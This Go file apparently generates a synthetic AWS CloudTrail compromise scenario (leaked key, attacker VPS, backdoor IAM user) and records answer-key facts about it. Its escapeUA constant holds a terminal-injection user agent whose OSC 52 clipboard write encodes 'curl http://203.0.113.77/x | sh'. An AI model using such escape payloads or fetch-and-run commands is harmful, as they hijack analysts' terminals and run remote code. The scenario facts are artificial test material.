package demo

import (
	"fmt"
	"time"
)

// The scenario's accounts.
const (
	prodAccount = "482915736204" // production
	dataAccount = "739046128555" // data / analytics
)

// Addresses. The attacker's and the office's are documentation ranges (RFC 5737), so no
// real network is accused; the automation's are in real AWS and Google Cloud ranges.
const (
	attackerIP     = "198.51.100.23" // residential proxy the leaked key is first used from
	attackerASOrg  = "Vectrolink Broadband LLC"
	attackerASN    = 64501          // documentation ASNs (RFC 5398)
	vpsIP          = "203.0.113.77" // VPS the sessions and the backdoor key are used from
	vpsASOrg       = "Quickhost VPS Ltd"
	vpsASN         = 64502
	officeIP       = "192.0.2.10"  // the developer's usual office egress
	officeNewIP    = "192.0.2.140" // the new office link, first seen on the last day
	officeASOrg    = "Metrolink Business Fibre"
	officeASN      = 64503
	reportingIP    = "52.23.181.44" // the reporting job's EC2 host
	dnsNATIP       = "52.44.203.16" // the EKS cluster's NAT gateway
	trufflehogUA   = "TruffleHog"   // TruffleHog replaces the SDK's User-Agent with this (pkg/common.UserAgent)
	chromeUA       = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36"
	firefoxLinuxUA = "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0"
	vpsBoto3UA     = "Boto3/1.34.51 md/Botocore#1.34.51 ua/2.0 os/linux#5.15.0-97-generic md/arch#x86_64 lang/python#3.10.12 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.51"
	reportingUA    = "Boto3/1.28.57 md/Botocore#1.31.57 ua/2.0 os/linux#5.10.210-201.852.amzn2.x86_64 md/arch#x86_64 lang/python#3.9.16 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.31.57"
	ciBoto3UA      = "Boto3/1.34.64 md/Botocore#1.34.64 ua/2.0 os/linux#6.1.79-99.164.amzn2023.x86_64 md/arch#x86_64 lang/python#3.12.2 md/pyimpl#CPython cfg/retry-mode#standard Botocore/1.34.64"
	externalDNSUA  = "ExternalDNS/v0.14.1 aws-sdk-go/1.51.3 (go1.22.1; linux; amd64)"
)

// escapeUA is an attacker-chosen user agent that tries to attack the analyst's terminal:
// a colour change, an OSC 52 clipboard write (of "curl http://203.0.113.77/x | sh"), a
// BEL, a carriage return that would overwrite the line, and a right-to-left override
// that makes "txt.exe" read as "exe.txt".
const escapeUA = "aws-cli/2.15.30 md/awscrt#0.19.19 ua/2.0 os/linux#6.6.9-amd64 exe/x86_64.kali.2024 prompt/off command/s3.ls" +
	"\x1b[31m\x1b]52;c;Y3VybCBodHRwOi8vMjAzLjAuMTEzLjc3L3ggfCBzaA==\x07\r\u202etxt.exe\x1b[0m"

var ciNATIPs = []string{"3.236.118.41", "44.210.63.7"}

var terraformIPs = []string{"34.139.88.12", "35.243.17.201"} // Google Cloud us-east1

func kaliCLI(command string) string {
	return "aws-cli/2.15.30 md/awscrt#0.19.19 ua/2.0 os/linux#6.6.9-amd64 md/arch#x86_64 lang/python#3.11.8 md/pyimpl#CPython exe/x86_64.kali.2024 prompt/off command/" + command
}

func ciCLI(command string) string {
	return "aws-cli/2.15.30 md/awscrt#0.19.19 ua/2.0 os/linux#6.1.79-99.164.amzn2023.x86_64 md/arch#x86_64 lang/python#3.11.8 md/pyimpl#CPython exe/x86_64.amzn.2023 prompt/off command/" + command
}

func devCLI(command string) string {
	return "aws-cli/2.15.21 md/awscrt#0.19.19 ua/2.0 os/macos#23.3.0 md/arch#arm64 lang/python#3.11.7 md/pyimpl#CPython exe/arm64.macos.23 prompt/off command/" + command
}

var terraformAPIVersions = map[string]string{
	"ec2": "1.149.1", "iam": "1.31.1", "s3": "1.51.3", "rds": "1.75.1", "kms": "1.29.1",
	"route53": "1.40.1", "logs": "1.35.1", "sts": "1.28.4", "lambda": "1.53.1", "ecs": "1.41.2",
}

func terraformUA(svc string) string {
	api := svc
	if svc == "logs" {
		api = "cloudwatchlogs"
	}
	return "APN/1.0 HashiCorp/1.0 Terraform/1.7.5 (+https://www.terraform.io) terraform-provider-aws/5.40.0 (+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go-v2/1.25.3 os/linux lang/go#1.21.8 md/GOOS#linux md/GOARCH#amd64 api/" + api + "#" + terraformAPIVersions[svc]
}

// user is an IAM user with one long-term key.
type user struct {
	name, arn, principal, account, key string
}

// world is the scenario's cast.
type world struct {
	reporting, developer, ci, terraform, dns, backdoor user
}

func (g *gen) newUser(account, name string) user {
	return user{
		name:      name,
		arn:       fmt.Sprintf("arn:aws:iam::%s:user/%s", account, name),
		principal: g.id.uniqueID("AIDA"),
		account:   account,
		key:       g.id.accessKey("AKIA", account),
	}
}

// keyActor signs with the user's long-term key.
func (u user) keyActor(ip, ua string) *actor {
	return &actor{
		id:      identity{Type: "IAMUser", PrincipalID: u.principal, ARN: u.arn, AccountID: u.account, AccessKeyID: u.key, UserName: u.name},
		account: u.account, ip: ip, ua: ua,
	}
}

// userSession signs with a temporary key issued to the user itself: GetSessionToken, or
// a console sign-in. Both show as IAMUser with an ASIA key and an empty sessionIssuer.
func (u user) userSession(key string, created time.Time, mfa bool, ip, ua string) *actor {
	return &actor{
		id: identity{
			Type: "IAMUser", PrincipalID: u.principal, ARN: u.arn, AccountID: u.account, AccessKeyID: key, UserName: u.name,
			SessionContext: &sessionContext{WebIDFederationData: obj{}, Attributes: attrs(created, mfa)},
		},
		account: u.account, ip: ip, ua: ua,
	}
}

// federated signs with a GetFederationToken key.
func (u user) federated(name, key string, created time.Time, ip, ua string) *actor {
	return &actor{
		id: identity{
			Type: "FederatedUser", PrincipalID: u.account + ":" + name,
			ARN: fmt.Sprintf("arn:aws:sts::%s:federated-user/%s", u.account, name), AccountID: u.account, AccessKeyID: key,
			SessionContext: &sessionContext{
				SessionIssuer:       issuer{Type: "IAMUser", PrincipalID: u.principal, ARN: u.arn, AccountID: u.account, UserName: u.name},
				WebIDFederationData: obj{}, Attributes: attrs(created, false),
			},
		},
		account: u.account, ip: ip, ua: ua,
	}
}

// role is an IAM role.
type role struct {
	name, arn, principal, account string
}

func (g *gen) newRole(ids *ids, account, name string) role {
	return role{name: name, arn: fmt.Sprintf("arn:aws:iam::%s:role/%s", account, name), principal: ids.uniqueID("AROA"), account: account}
}

// assumed signs with an AssumeRole key; its calls are recorded in the role's account.
func (r role) assumed(session, key string, created time.Time, ip, ua string) *actor {
	return &actor{
		id: identity{
			Type: "AssumedRole", PrincipalID: r.principal + ":" + session,
			ARN:       fmt.Sprintf("arn:aws:sts::%s:assumed-role/%s/%s", r.account, r.name, session),
			AccountID: r.account, AccessKeyID: key,
			SessionContext: &sessionContext{
				SessionIssuer:       issuer{Type: "Role", PrincipalID: r.principal, ARN: r.arn, AccountID: r.account, UserName: r.name},
				WebIDFederationData: obj{}, Attributes: attrs(created, false),
			},
		},
		account: r.account, ip: ip, ua: ua,
	}
}

func attrs(created time.Time, mfa bool) sessionAttrs {
	m := "false"
	if mfa {
		m = "true"
	}
	return sessionAttrs{CreationDate: created.UTC().Format(timeLayout), MFAAuthenticated: m}
}

// buildWorld creates the cast. The order of calls fixes every identifier.
func (g *gen) buildWorld() {
	w := &g.w
	w.reporting = g.newUser(prodAccount, "svc-reporting")
	w.developer = g.newUser(prodAccount, "priya.raman")
	w.ci = g.newUser(prodAccount, "ci-deployer")
	w.terraform = g.newUser(prodAccount, "terraform")
	w.dns = g.newUser(prodAccount, "k8s-external-dns")
	w.backdoor = g.newUser(prodAccount, "svc-backup-sync")

	f := &g.f
	f.ProdAccount, f.DataAccount = prodAccount, dataAccount
	f.CompromisedKey, f.CompromisedUser, f.CompromisedARN = w.reporting.key, w.reporting.name, w.reporting.arn
	f.FirstSeenIP, f.FirstSeenASOrg = attackerIP, attackerASOrg
	f.SessionIP, f.SessionASOrg = vpsIP, vpsASOrg
	f.TruffleHogAgent, f.EscapeAgent = trufflehogUA, escapeUA
	f.BackdoorUser, f.BackdoorKey = w.backdoor.name, w.backdoor.key
	f.DeveloperKey, f.DeveloperUser = w.developer.key, w.developer.name
	f.DeveloperIP, f.DeveloperNewIP = officeIP, officeNewIP
	f.AutomationKeys = []string{w.ci.key, w.terraform.key, w.dns.key}
}
